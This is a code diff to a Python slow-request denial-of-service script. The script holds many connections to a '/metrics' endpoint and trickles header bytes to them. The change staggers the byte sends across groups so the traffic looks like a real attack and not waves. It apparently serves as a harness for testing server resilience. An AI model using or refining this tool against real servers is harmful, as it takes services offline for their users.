@@ -13,7 +13,8 @@ import time
 
 IP_BIND_ADDRESS_NO_PORT = 24
 SMALL_BUFFER = 4096
-SECONDS_BETWEEN_BYTES = 0.5
+SECONDS_BETWEEN_BYTES = 1
+GROUPS = 20  # A part of the connections sends at a time: a real attack does not come in waves.
 REQUEST = b'GET /metrics HTTP/1.1\r\nHost: attack\r\n\r\n'
 SLOW_REQUEST = b'GET /metrics HTTP/1.1\r\nHost: attack\r\nX: ' + b'x' * 4000
 GONE = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR
@@ -56,19 +57,22 @@ class Attack:
         except OSError:
             pass  # The next event tells whether it is closed.
 
-    def send_bytes(self):
-        for entry in list(self.open.values()):
-            self.send(entry, SLOW_REQUEST[entry[1]:entry[1] + 1])
+    def send_bytes(self, group):
+        for descriptor in range(group, max(self.open) + 1, GROUPS):
+            if entry := self.open.get(descriptor):
+                self.send(entry, SLOW_REQUEST[entry[1]:entry[1] + 1])
 
     def run(self):
         next_byte = next_report = time.monotonic()
+        group = 0
         while True:
-            for descriptor, event in self.poll.poll(0.1, 256):
+            for descriptor, event in self.poll.poll(SECONDS_BETWEEN_BYTES / GROUPS / 2, 256):
                 self.handle(descriptor, event)
             now = time.monotonic()
             if self.kind == 'slow' and now >= next_byte:
-                self.send_bytes()
-                next_byte = now + SECONDS_BETWEEN_BYTES
+                self.send_bytes(group)
+                group = (group + 1) % GROUPS
+                next_byte = now + SECONDS_BETWEEN_BYTES / GROUPS
             if now >= next_report:
                 print(len(self.open), self.opened, self.failed, flush=True)
                 next_report = now + 1
